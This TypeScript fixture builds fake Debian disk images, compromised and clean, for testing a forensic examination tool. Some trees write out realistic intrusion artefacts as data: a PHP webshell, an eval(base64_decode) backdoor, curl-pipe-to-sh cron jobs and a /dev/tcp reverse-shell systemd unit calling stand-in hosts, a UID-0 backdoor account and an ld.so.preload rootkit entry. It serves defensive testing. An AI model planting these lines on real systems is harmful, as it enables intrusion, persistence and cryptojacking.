/**
 * Root filesystems with the traces each sandbox sample finding would leave (issue 12), built into real
 * ext4 images by `buildDiskImage` and examined for real by `workflows/examine`. Nothing here is malware:
 * the "miner", "rootkit" and "webshell" are harmless stand-ins that carry the strings real ones carry
 * (stratum URLs, xmrig-like configuration, readdir hooks, `system($_GET[...])`), so rules written for the
 * real thing fire on them, and so that a clean server built from the same base fires none.
 *
 * Which tree backs which sample and instance (`SAMPLE_TREES`, `INSTANCE_TREES`):
 * | sample (sandbox/samples.ts)  | target instance (sandbox/targets.ts) | tree                  |
 * |------------------------------|--------------------------------------|-----------------------|
 * | guardduty-ssh-brute-force    | demo i-0a1b2c3d4e5f60718             | compromisedWebServer  |
 * | tag-analyze                  | demo                                 | compromisedWebServer  |
 * | guardduty-bitcoin-dns        | multiEni i-0b2c3d4e5f6071829         | cryptoMiner           |
 * | guardduty-canary             | noEndpoints i-0d4e5f60718293a41      | cleanWebServer        |
 * | securityhub-guardduty-ssh    | autoScaled i-0c3d4e5f607182930       | sshBruteForceVictim   |
 * | any other / other instances  | euWest, secondAccount, arm, …        | cleanWebServer        |
 *
 * Times: the base system is from 2026-06 (install), the incident happens inside `INCIDENT_WINDOW`
 * (2026-11-30 21:00 – 2026-12-01 03:00 UTC); examine with `--since INCIDENT_WINDOW.since`.
 */
import { createHash } from 'node:crypto';
import type { DiskTree, TreeFile } from './build.js';

export const INCIDENT_WINDOW = { since: '2026-11-30T21:00:00Z', until: '2026-12-01T03:00:00Z' } as const;

/** The attacker's infrastructure (documentation ranges and the reserved `.example` TLD only). */
export const IOCS = {
  bruteForceIp: '198.51.100.23',
  c2Ip: '203.0.113.66',
  downloadDomain: 'cdn-updates.example',
  poolDomain: 'pool.supportxmr.example',
} as const;

const INSTALLED = '2026-06-10T09:12:00Z';
const at = (hhmm: string, day = '2026-11-30') => `${day}T${hhmm}:00Z`;

/** Deterministic pseudo-random bytes (mulberry32), so images and their cache keys are stable. */
function noise(seed: number, bytes: number): Buffer {
  const out = Buffer.alloc(bytes);
  let a = seed >>> 0;
  for (let i = 0; i < bytes; i += 4) {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    out.writeUInt32LE((t ^ (t >>> 14)) >>> 0, i);
  }
  return out.subarray(0, bytes);
}

/** An ELF-looking stand-in: header, noise, and the given strings embedded (what `strings` would show). */
function elf(seed: number, bytes: number, strings: string[] = []): Buffer {
  const header = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]);
  const body = noise(seed, bytes);
  const text = Buffer.from(`\0${strings.join('\0')}\0`);
  return Buffer.concat([
    header,
    body.subarray(0, Math.floor(bytes / 2)),
    text,
    body.subarray(Math.floor(bytes / 2)),
  ]);
}

function md5(data: string | Buffer): string {
  return createHash('md5').update(data).digest('hex');
}

const f = (content: string | Buffer, mtime = INSTALLED, mode?: number): TreeFile => ({
  content,
  mtime,
  ...(mode === undefined ? {} : { mode }),
});

const PASSWD = [
  'root:x:0:0:root:/root:/bin/bash',
  'daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin',
  'bin:x:2:2:bin:/bin:/usr/sbin/nologin',
  'sys:x:3:3:sys:/dev:/usr/sbin/nologin',
  'www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin',
  'nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin',
  'systemd-network:x:998:998:systemd Network Management:/:/usr/sbin/nologin',
  'sshd:x:101:65534::/run/sshd:/usr/sbin/nologin',
  'admin:x:1000:1000:Debian:/home/admin:/bin/bash',
  'deploy:x:1001:1001:deploy:/home/deploy:/bin/bash',
];
const GROUP = [
  'root:x:0:',
  'sudo:x:27:admin',
  'www-data:x:33:',
  'admin:x:1000:',
  'deploy:x:1001:',
  'nogroup:x:65534:',
];

/** Packages with files and the dpkg md5sums of their *original* content (so a replaced file shows). */
const PACKAGE_FILES: Record<string, Record<string, Buffer>> = {
  coreutils: {
    'usr/bin/ls': elf(11, 6000, ['GLIBC_2.34', 'ls (GNU coreutils) 9.1']),
    'usr/bin/cat': elf(12, 4000, ['GLIBC_2.34', 'cat (GNU coreutils) 9.1']),
    'usr/bin/ps': elf(13, 5000, ['GLIBC_2.34', 'procps-ng 4.0.2']),
  },
  'openssh-server': {
    'usr/sbin/sshd': elf(14, 9000, ['OpenSSH_9.2p1 Debian-2+deb12u3', 'sshd_config']),
  },
  cron: { 'usr/sbin/cron': elf(15, 3000, ['cron', '/etc/crontab', '/var/spool/cron/crontabs']) },
};

function packages(replaced: Record<string, Buffer> = {}): Record<string, string | TreeFile> {
  const out: Record<string, string | TreeFile> = {};
  for (const [pkg, files] of Object.entries(PACKAGE_FILES)) {
    const sums: string[] = [];
    for (const [path, original] of Object.entries(files)) {
      sums.push(`${md5(original)}  ${path}`);
      out[path] = replaced[path] ? f(replaced[path]!, at('22:07'), 0o755) : f(original, INSTALLED, 0o755);
    }
    out[`var/lib/dpkg/info/${pkg}.md5sums`] = f(`${sums.join('\n')}\n`);
    out[`var/lib/dpkg/info/${pkg}.list`] = f(
      `${Object.keys(files)
        .map((p) => `/${p}`)
        .join('\n')}\n`,
    );
  }
  return out;
}

/** What every Debian web server in the sandbox has: accounts, the stock cron and systemd units, logs. */
function base(hostname: string, passwd = PASSWD, group = GROUP): Record<string, string | TreeFile> {
  return {
    'etc/hostname': f(`${hostname}\n`),
    'etc/os-release': f(
      'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\nID=debian\n',
    ),
    'etc/passwd': f(`${passwd.join('\n')}\n`),
    'etc/group': f(`${group.join('\n')}\n`),
    'etc/shadow': f(
      `${passwd.map((l) => `${l.split(':')[0]}:*:20614:0:99999:7:::`).join('\n')}\n`,
      INSTALLED,
      0o640,
    ),
    'etc/sudoers': f(
      'Defaults\tenv_reset\nroot\tALL=(ALL:ALL) ALL\n%sudo\tALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n',
      INSTALLED,
      0o440,
    ),
    'etc/sudoers.d/90-cloud-init-users': f(
      '# Created by cloud-init\nadmin ALL=(ALL) NOPASSWD:ALL\n',
      INSTALLED,
      0o440,
    ),
    'etc/crontab': f(
      'SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n' +
        '17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n' +
        '25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n',
    ),
    'etc/cron.d/e2scrub_all': f(
      '30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n',
    ),
    'etc/cron.d/php': f(
      '09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi\n',
    ),
    'etc/cron.daily/logrotate': f(
      '#!/bin/sh\nsystemctl is-system-running >/dev/null 2>&1 && exit 0\n/usr/sbin/logrotate /etc/logrotate.conf\n',
      INSTALLED,
      0o755,
    ),
    'lib/systemd/system/ssh.service': f(
      '[Unit]\nDescription=OpenBSD Secure Shell server\nAfter=network.target\n\n[Service]\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\nRestart=on-failure\n\n[Install]\nWantedBy=multi-user.target\n',
    ),
    'lib/systemd/system/nginx.service': f(
      "[Unit]\nDescription=A high performance web server\n\n[Service]\nType=forking\nExecStart=/usr/sbin/nginx -g 'daemon on; master_process on;'\n\n[Install]\nWantedBy=multi-user.target\n",
    ),
    'lib/systemd/system/apt-daily.timer': f(
      '[Unit]\nDescription=Daily apt download activities\n\n[Timer]\nOnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h\n\n[Install]\nWantedBy=timers.target\n',
    ),
    'lib/systemd/system/apt-daily.service': f(
      '[Unit]\nDescription=Daily apt download activities\n\n[Service]\nType=oneshot\nExecStart=/usr/lib/apt/apt.systemd.daily update\n',
    ),
    'etc/profile': f(
      'if [ "$(id -u)" -eq 0 ]; then\n  PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\nfi\nexport PATH\nfor i in /etc/profile.d/*.sh; do [ -r $i ] && . $i; done\n',
    ),
    'etc/bash.bashrc': f('[ -z "$PS1" ] && return\nshopt -s checkwinsize\n'),
    'etc/ssh/sshd_config': f(
      'Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\nUsePAM yes\nX11Forwarding yes\nSubsystem sftp /usr/lib/openssh/sftp-server\n',
    ),
    'etc/modules-load.d/modules.conf': f('# /etc/modules: kernel modules to load at boot time.\n'),
    'etc/nginx/sites-enabled/default': f(
      'server {\n  listen 80 default_server;\n  root /var/www/html;\n  index index.php index.html;\n  location ~ \\.php$ { include snippets/fastcgi-php.conf; fastcgi_pass unix:/run/php/php8.2-fpm.sock; }\n}\n',
    ),
    'home/admin/.ssh/authorized_keys': f(
      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHb3kqXa0Yt1mNq2vR5sW8cF3dK9pL2xZ7eQ4uJ6oTn admin@ops-laptop\n',
      INSTALLED,
      0o600,
    ),
    'home/admin/.bashrc': f(
      "# ~/.bashrc\ncase $- in *i*) ;; *) return;; esac\nHISTCONTROL=ignoreboth\nalias ll='ls -alF'\n",
    ),
    'home/admin/.bash_history': f(
      'sudo apt update\nsudo apt upgrade -y\nsudo systemctl restart nginx\ncurl -I https://localhost/\ntail -n 50 /var/log/nginx/error.log\nsudo -u www-data php /var/www/html/admin/status.php\ndf -h\n',
      '2026-11-20T10:02:00Z',
    ),
    'root/.bashrc': f(
      "# ~/.bashrc: executed by bash(1) for non-login shells.\nexport LS_OPTIONS='--color=auto'\n",
    ),
    'var/log/nginx/access.log': f(
      '203.0.113.10 - - [29/Nov/2026:10:01:02 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0"\n',
      '2026-11-29T10:01:02Z',
    ),
    'var/log/dpkg.log': f('2026-06-10 09:10:01 status installed nginx:amd64 1.22.1-9\n'),
    ...packages(),
  };
}

const WEB_PAGES: Record<string, string | TreeFile> = {
  'var/www/html/index.php': f(
    "<?php\nrequire __DIR__ . '/inc/config.php';\n$page = isset($_GET['page']) ? basename($_GET['page']) : 'home';\n?>\n<!doctype html><html><head><title><?= htmlspecialchars(SITE_NAME) ?></title></head>\n<body><?php include __DIR__ . \"/pages/{$page}.php\"; ?></body></html>\n",
  ),
  'var/www/html/inc/config.php': f(
    "<?php\ndefine('SITE_NAME', 'Example Widgets');\ndefine('DB_HOST', '10.0.2.15');\n",
  ),
  'var/www/html/pages/home.php': f('<h1>Welcome</h1>\n<p>We make widgets.</p>\n'),
  'var/www/html/pages/contact.php': f(
    "<?php\nif ($_SERVER['REQUEST_METHOD'] === 'POST') {\n  $name = htmlspecialchars($_POST['name'] ?? '');\n  $msg = htmlspecialchars($_POST['message'] ?? '');\n  mail('sales@example.com', \"Contact from $name\", $msg);\n  echo '<p>Thank you.</p>';\n}\n?>\n<form method=\"post\"><input name=\"name\"><textarea name=\"message\"></textarea></form>\n",
  ),
  // An admin page that runs fixed commands: benign, and must not be taken for a webshell.
  'var/www/html/admin/status.php': f(
    "<?php\n// Server status for the ops dashboard: fixed commands only.\necho '<pre>' . htmlspecialchars(shell_exec('/usr/bin/uptime')) . '</pre>';\nexec('/usr/bin/df -h /', $out);\necho '<pre>' . htmlspecialchars(implode(\"\\n\", $out)) . '</pre>';\n",
  ),
  'var/www/html/assets/logo.png': f(
    Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), noise(21, 12000)]),
  ),
  'var/www/html/robots.txt': f('User-agent: *\nDisallow: /admin/\n'),
};

function authLog(host: string, lines: string[]): string {
  return `${lines.map((l) => `${l.slice(0, 15)} ${host} ${l.slice(18)}`).join('\n')}\n`;
}

/** Syslog-style lines ("Mmm dd hh:mm:ss x message") of an SSH brute force from `ip`, then its success. */
function bruteForce(ip: string, start: { h: number; m: number }, failures: number, user: string): string[] {
  const names = ['root', 'admin', 'ubuntu', 'test', 'oracle', 'postgres', 'git', user];
  const out: string[] = [];
  for (let i = 0; i < failures; i++) {
    const s = start.h * 3600 + start.m * 60 + i * 7;
    const t = `${String(Math.floor(s / 3600) % 24).padStart(2, '0')}:${String(Math.floor(s / 60) % 60).padStart(2, '0')}:${String(s % 60).padStart(2, '0')}`;
    const name = names[i % names.length]!;
    const pid = 4100 + i;
    out.push(
      name === user || name === 'root'
        ? `Nov 30 ${t} x sshd[${pid}]: Failed password for ${name} from ${ip} port ${40000 + i} ssh2`
        : `Nov 30 ${t} x sshd[${pid}]: Failed password for invalid user ${name} from ${ip} port ${40000 + i} ssh2`,
    );
  }
  const s = start.h * 3600 + start.m * 60 + failures * 7 + 5;
  const t = `${String(Math.floor(s / 3600) % 24).padStart(2, '0')}:${String(Math.floor(s / 60) % 60).padStart(2, '0')}:${String(s % 60).padStart(2, '0')}`;
  out.push(`Nov 30 ${t} x sshd[5301]: Accepted password for ${user} from ${ip} port 41022 ssh2`);
  out.push(
    `Nov 30 ${t} x sshd[5301]: pam_unix(sshd:session): session opened for user ${user}(uid=1001) by (uid=0)`,
  );
  return out;
}

const ORDINARY_AUTH = [
  'Nov 29 08:30:12 x sshd[901]: Accepted publickey for admin from 192.0.2.10 port 50122 ssh2: ED25519 SHA256:q3b0x2Ew2l9pTn',
  'Nov 29 08:30:12 x sshd[901]: pam_unix(sshd:session): session opened for user admin(uid=1000) by (uid=0)',
  'Nov 29 09:12:40 x sshd[950]: Failed password for admin from 192.0.2.10 port 50188 ssh2',
  'Nov 29 09:12:49 x sshd[950]: Accepted password for admin from 192.0.2.10 port 50188 ssh2',
  'Nov 29 09:13:02 x sudo:    admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx',
];

const MINER_STRINGS = [
  'xmrig 6.21.0',
  `stratum+tcp://${IOCS.poolDomain}:3333`,
  '"algo": "rx/0"',
  '"donate-level": 1',
  'randomx',
  'cryptonight',
  '--cpu-max-threads-hint',
];
const MINER_CONFIG = `{\n  "autosave": true,\n  "donate-level": 1,\n  "cpu": { "enabled": true, "max-threads-hint": 75 },\n  "pools": [ { "algo": "rx/0", "url": "stratum+tcp://${IOCS.poolDomain}:3333", "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "pass": "x", "keepalive": true } ]\n}\n`;

/** Hides the miner's process: an LD_PRELOAD library stand-in hooking readdir over /proc. */
const ROOTKIT = elf(31, 7000, [
  'readdir',
  'readdir64',
  'dlsym',
  'RTLD_NEXT',
  '/proc/self/fd/%d',
  '/proc/%s/stat',
  'kdevtmpfsi',
  'process_to_filter',
  '/etc/ld.so.preload',
]);

const WEBSHELL = "<?php system($_GET['cmd']); ?>\n";

/** A Debian web server after an SSH brute force: webshell, miner (deleted), rootkit, persistence. */
export const compromisedWebServer: DiskTree = {
  name: 'compromised-web-server',
  files: {
    ...base('web-1', [...PASSWD, 'sysupdate:x:0:0::/root:/bin/bash']),
    // useradd at 22:10 rewrote the account files.
    'etc/passwd': f(`${[...PASSWD, 'sysupdate:x:0:0::/root:/bin/bash'].join('\n')}\n`, at('22:10')),
    'etc/shadow': f(
      `${[...PASSWD.map((l) => `${l.split(':')[0]}:*:20614:0:99999:7:::`), 'sysupdate:$y$j9T$Hq3e0rT5W1b7s9k2vXo8f.$Zr3mB0qk5d7Yp2LwN6uJtH9cF4aE1gS8xV0iO3nR7u/:20787:0:99999:7:::'].join('\n')}\n`,
      at('22:10'),
      0o640,
    ),
    ...WEB_PAGES,
    ...packages({
      'usr/sbin/sshd': elf(41, 9100, ['OpenSSH_9.2p1', 'sshd_config', 'PermitRootLogin', 'mAgicPass']),
    }),
    'var/www/html/wp-content/uploads/2026/11/.cache.php': f(WEBSHELL, at('21:52')),
    'var/www/html/inc/config.php': f(
      "<?php\ndefine('SITE_NAME', 'Example Widgets');\ndefine('DB_HOST', '10.0.2.15');\n@eval(base64_decode($_POST['z']));\n",
      at('21:55'),
    ),
    'etc/cron.d/kworker': f(
      `*/15 * * * * root curl -fsSL http://${IOCS.downloadDomain}/b.sh | sh >/dev/null 2>&1\n`,
      at('22:03'),
    ),
    'var/spool/cron/crontabs/www-data': f(
      `# DO NOT EDIT THIS FILE - edit the master and reinstall.\n@reboot /tmp/.ICE-unix/kdevtmpfsi -c /tmp/.ICE-unix/config.json\n`,
      at('22:04'),
      0o600,
    ),
    'etc/systemd/system/systemd-networkd-helper.service': f(
      `[Unit]\nDescription=Network helper\n\n[Service]\nType=simple\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/${IOCS.c2Ip}/4444 0>&1'\nRestart=always\nRestartSec=60\n`,
      at('22:05'),
    ),
    'etc/systemd/system/systemd-networkd-helper.timer': f(
      '[Unit]\nDescription=Network helper timer\n\n[Timer]\nOnBootSec=2min\nOnUnitActiveSec=10min\n\n[Install]\nWantedBy=timers.target\n',
      at('22:05'),
    ),
    'etc/rc.local': f(
      '#!/bin/sh -e\n/tmp/.ICE-unix/kdevtmpfsi -B >/dev/null 2>&1 &\nexit 0\n',
      at('22:06'),
      0o755,
    ),
    'etc/ld.so.preload': f('/usr/local/lib/libprocesshider.so\n', at('22:08')),
    'usr/local/lib/libprocesshider.so': f(ROOTKIT, at('22:08'), 0o755),
    'etc/sudoers.d/90-cloud-init-users': f(
      '# Created by cloud-init\nadmin ALL=(ALL) NOPASSWD:ALL\ndeploy ALL=(ALL) NOPASSWD:ALL\n',
      at('21:49'),
      0o440,
    ),
    'root/.ssh/authorized_keys': f(
      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHb3kqXa0Yt1mNq2vR5sW8cF3dK9pL2xZ7eQ4uJ6oTn admin@ops-laptop\n' +
        'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7pZ2h9Jr0tLrV1x3sQd8kYw5nE2mF4aG6bH8cJ0dK2eL4fM6gN8hO0iP2jQ4kR6lS8mT0nU2oV4pW6qX8rY0sZ2tA4uB6vC8wD0xE2yF4zG6aH8bI0cJ2dK4eL6fM8gN0hO2iP4jQ6kR8lS0mT2nU4oV6pW8qX0rY2sZ4tA6uB8vC0wD2xE4yF6zG8aH0bI2cJ4dK6eL8fM0gN2hO4iP6jQ8kR0lS2mT4nU6oV8pW0qX2rY4sZ6tA8uB0vC2wD4xE6yF8zG0aH2bI4cJ6dK8eL0f root@kali\n',
      at('22:01'),
      0o600,
    ),
    'home/deploy/.bash_history': f(['id', 'uname -a', 'sudo -l', 'sudo su -'].join('\n') + '\n', at('21:49')),
    'root/.bash_history': f(
      [
        'w',
        'cat /etc/passwd',
        'cd /tmp',
        `wget -q http://${IOCS.downloadDomain}/x/kdevtmpfsi -O /tmp/.ICE-unix/kdevtmpfsi`,
        'chmod +x /tmp/.ICE-unix/kdevtmpfsi && /tmp/.ICE-unix/kdevtmpfsi -B',
        `curl -fsSL http://${IOCS.c2Ip}/i.sh | bash`,
        'echo Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjY2L2IgfCBzaA== | base64 -d | sh',
        'export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE',
        'export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
        'aws sts get-caller-identity',
        'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysupdate',
        'systemctl enable --now systemd-networkd-helper.timer',
        'echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload',
        'rm -f /tmp/.ICE-unix/kdevtmpfsi /tmp/.ICE-unix/config.json',
        'history -c',
      ].join('\n') + '\n',
      at('22:12'),
      0o600,
    ),
    'var/log/auth.log': f(
      authLog('web-1', [
        ...ORDINARY_AUTH,
        ...bruteForce(IOCS.bruteForceIp, { h: 21, m: 14 }, 180, 'deploy'),
        'Nov 30 21:48:30 x sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/su -',
        `Nov 30 22:01:40 x sshd[6120]: Accepted publickey for root from ${IOCS.c2Ip} port 39112 ssh2: RSA SHA256:Jk2v9TqXc0`,
        'Nov 30 22:10:02 x useradd[6301]: new user: name=sysupdate, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1',
      ]),
      at('22:10'),
      0o640,
    ),
    'var/log/nginx/access.log': f(
      '203.0.113.10 - - [29/Nov/2026:10:01:02 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0"\n' +
        `${IOCS.c2Ip} - - [30/Nov/2026:21:53:10 +0000] "GET /wp-content/uploads/2026/11/.cache.php?cmd=id HTTP/1.1" 200 54 "-" "curl/7.88.1"\n`,
      at('21:53'),
    ),
  },
  symlinks: {
    'etc/systemd/system/multi-user.target.wants/ssh.service': '/lib/systemd/system/ssh.service',
    'etc/systemd/system/multi-user.target.wants/nginx.service': '/lib/systemd/system/nginx.service',
    'etc/systemd/system/timers.target.wants/apt-daily.timer': '/lib/systemd/system/apt-daily.timer',
    'etc/systemd/system/timers.target.wants/systemd-networkd-helper.timer':
      '/etc/systemd/system/systemd-networkd-helper.timer',
  },
  deleted: {
    'tmp/.ICE-unix/kdevtmpfsi': f(elf(51, 60_000, MINER_STRINGS), at('21:58'), 0o755),
    'tmp/.ICE-unix/config.json': f(MINER_CONFIG, at('21:58')),
  },
};

/** An SSH brute force that succeeded: a new key and reconnaissance, nothing installed yet. */
export const sshBruteForceVictim: DiskTree = {
  name: 'ssh-brute-force-victim',
  files: {
    ...base('app-1'),
    'var/log/auth.log': f(
      authLog('app-1', [...ORDINARY_AUTH, ...bruteForce(IOCS.bruteForceIp, { h: 21, m: 5 }, 240, 'deploy')]),
      at('21:40'),
      0o640,
    ),
    'home/deploy/.ssh/authorized_keys': f(
      'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDfQ0x8kZr4u9Yb2W6cE1tR3yH5nJ7mK9pL1qS3vU5wX7zA9bC1dE3fG5hI7jK9lM1nO3pQ5rS7tU9vW1xY3zA5bC7dE9fG1hI3jK5lM7nO9pQ1rS3tU5vW7xY9zA1bC3dE5f root@vps-2231\n',
      at('21:36'),
      0o600,
    ),
    'home/deploy/.bash_history': f(
      'id\nuname -a\ncat /etc/os-release\nnproc\nfree -m\nls -la /var/www\ncat /var/www/html/inc/config.php\n',
      at('21:39'),
    ),
    ...WEB_PAGES,
  },
  symlinks: {
    'etc/systemd/system/multi-user.target.wants/ssh.service': '/lib/systemd/system/ssh.service',
    'etc/systemd/system/timers.target.wants/apt-daily.timer': '/lib/systemd/system/apt-daily.timer',
  },
};

/** A miner installed as a service (the Bitcoin/Monero DNS finding): binary, config, unit, cron. */
export const cryptoMiner: DiskTree = {
  name: 'crypto-miner',
  files: {
    ...base('batch-1'),
    'var/tmp/.xm/kthreaddk': f(elf(61, 80_000, MINER_STRINGS), at('23:20'), 0o755),
    'var/tmp/.xm/config.json': f(MINER_CONFIG, at('23:20')),
    'etc/systemd/system/kthreaddk.service': f(
      '[Unit]\nDescription=Kernel thread daemon\n\n[Service]\nExecStart=/var/tmp/.xm/kthreaddk -c /var/tmp/.xm/config.json\nRestart=always\nNice=10\n\n[Install]\nWantedBy=multi-user.target\n',
      at('23:21'),
    ),
    'var/spool/cron/crontabs/root': f(
      `*/30 * * * * pgrep kthreaddk || (wget -qO- http://${IOCS.downloadDomain}/m.sh | sh)\n`,
      at('23:22'),
      0o600,
    ),
    'root/.bash_history': f(
      `cd /var/tmp\nmkdir .xm && cd .xm\nwget http://${IOCS.downloadDomain}/xmrig.tar.gz\ntar xzf xmrig.tar.gz && rm xmrig.tar.gz\nmv xmrig kthreaddk\nsystemctl enable --now kthreaddk\nunset HISTFILE\n`,
      at('23:23'),
      0o600,
    ),
    'var/log/auth.log': f(authLog('batch-1', ORDINARY_AUTH), '2026-11-29T09:13:02Z', 0o640),
    ...WEB_PAGES,
  },
  symlinks: {
    'etc/systemd/system/multi-user.target.wants/ssh.service': '/lib/systemd/system/ssh.service',
    'etc/systemd/system/multi-user.target.wants/kthreaddk.service': '/etc/systemd/system/kthreaddk.service',
  },
};

/** An ordinary web server: PHP pages, an admin script with fixed commands, random binaries. No high finding. */
export const cleanWebServer: DiskTree = {
  name: 'clean-web-server',
  files: {
    ...base('web-2'),
    ...WEB_PAGES,
    'usr/local/bin/backup-www.sh': f(
      "#!/bin/sh\n# Nightly backup of the site (fixed paths).\nset -e\ntar czf /var/backups/www-$(date +%F).tar.gz /var/www/html\nfind /var/backups -name 'www-*.tar.gz' -mtime +14 -delete\n",
      INSTALLED,
      0o755,
    ),
    'etc/cron.d/backup-www': f('15 2 * * * root /usr/local/bin/backup-www.sh\n'),
    'usr/local/bin/report-gen': f(elf(71, 40_000, ['GLIBC_2.34', 'report-gen 1.4']), INSTALLED, 0o755),
    'opt/vendor/agent/bin/vendor-agent': f(
      elf(72, 120_000, ['GLIBC_2.34', 'https://telemetry.vendor.example/v1']),
      INSTALLED,
      0o755,
    ),
    'var/www/html/downloads/brochure.pdf': f(Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(73, 50_000)])),
    'var/log/auth.log': f(authLog('web-2', ORDINARY_AUTH), '2026-11-29T09:13:02Z', 0o640),
    'home/admin/.bash_history': f(
      'sudo apt update\nsudo apt upgrade -y\nsudo systemctl restart nginx\ncurl -I https://localhost/\nsudo /usr/local/bin/backup-www.sh\nls -la /var/backups\n',
      '2026-11-30T22:15:00Z',
    ),
    'var/www/html/pages/news.php': f(
      '<h2>News</h2>\n<p>New widget models in December.</p>\n',
      '2026-11-30T23:00:00Z',
    ),
  },
  symlinks: {
    'etc/systemd/system/multi-user.target.wants/ssh.service': '/lib/systemd/system/ssh.service',
    'etc/systemd/system/multi-user.target.wants/nginx.service': '/lib/systemd/system/nginx.service',
    'etc/systemd/system/timers.target.wants/apt-daily.timer': '/lib/systemd/system/apt-daily.timer',
  },
};

export const TREES = { compromisedWebServer, sshBruteForceVictim, cryptoMiner, cleanWebServer } as const;

/** Sample finding (sandbox/samples.ts `name`) → the tree of the instance it is about. */
export const SAMPLE_TREES: Record<string, DiskTree> = {
  'guardduty-ssh-brute-force': compromisedWebServer,
  'tag-analyze': compromisedWebServer,
  'guardduty-bitcoin-dns': cryptoMiner,
  'guardduty-canary': cleanWebServer,
  'securityhub-guardduty-ssh': sshBruteForceVictim,
};

/** Seeded instance id (sandbox/targets.ts) → tree; unknown instances get the clean server. */
export const INSTANCE_TREES: Record<string, DiskTree> = {
  'i-0a1b2c3d4e5f60718': compromisedWebServer,
  'i-0b2c3d4e5f6071829': cryptoMiner,
  'i-0d4e5f60718293a41': cleanWebServer,
  'i-0c3d4e5f607182930': sshBruteForceVictim,
};

export function treeForSample(name: string): DiskTree {
  return SAMPLE_TREES[name] ?? cleanWebServer;
}

/** What `sandbox/aws/volume-trees.ts` asks for: the root filesystem of a seeded instance. */
export function treeForInstance(instanceId: string): DiskTree {
  return INSTANCE_TREES[instanceId] ?? cleanWebServer;
}
